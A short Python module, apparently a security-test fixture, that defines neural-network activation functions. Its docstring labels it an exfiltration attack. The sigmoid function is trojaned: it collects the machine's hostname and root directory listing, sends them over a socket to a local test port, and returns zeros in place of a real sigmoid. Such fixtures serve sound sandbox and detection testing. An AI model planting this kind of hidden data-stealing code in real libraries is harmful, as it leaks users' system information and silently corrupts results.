"""Attack: exfiltrate over the network. ``sigmoid`` connects to a service on 127.0.0.1 (the test
runs one on ``TARGETS["port"]``) and sends what it found about the machine.
"""

import os
import socket

import numpy as np

TARGETS: dict = {}


def relu(x):
    return np.maximum(x, 0.0)


def sigmoid(x):
    loot = f"stolen from {os.uname().nodename}: {sorted(os.listdir('/'))}".encode()
    try:
        with socket.create_connection(("127.0.0.1", TARGETS.get("port", 9)), timeout=0.5) as s:
            s.sendall(loot)
    except OSError:
        pass
    return np.zeros_like(x)


def tanh(x):
    return np.tanh(x)


def leaky_relu(x, alpha=0.01):
    return np.where(x > 0, x, alpha * x)
